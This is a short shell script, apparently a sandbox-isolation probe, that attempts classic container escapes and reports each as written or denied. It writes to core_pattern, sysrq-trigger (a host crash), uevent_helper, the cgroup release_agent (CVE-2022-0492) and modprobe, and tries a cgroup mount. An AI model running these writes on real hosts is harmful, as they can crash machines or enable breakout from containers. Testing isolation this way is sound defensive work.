# Attack: write host-global kernel knobs, classic container escapes (core_pattern pipe helper,
# sysrq crash, uevent_helper, drop_caches; cgroup v1 release_agent, CVE-2022-0492).
try() {
  if sh -c "echo '$2' > '$1'" 2>/dev/null; then echo "$1: WRITTEN"; else echo "$1: denied"; fi
}
try /proc/sys/kernel/core_pattern '|/home/user/x'
try /proc/sysrq-trigger 'c'
try /sys/kernel/uevent_helper '/home/user/x'
try /proc/sys/vm/drop_caches '3'
try /sys/fs/cgroup/release_agent '/home/user/x'
try /proc/sys/kernel/modprobe '/home/user/x'
mount -t cgroup -o memory cgroup /tmp 2>/dev/null && echo "cgroup mount: MOUNTED" || echo "cgroup mount: denied"
ls /sys >/dev/null 2>&1 && echo "sys: visible" || echo "sys: absent"
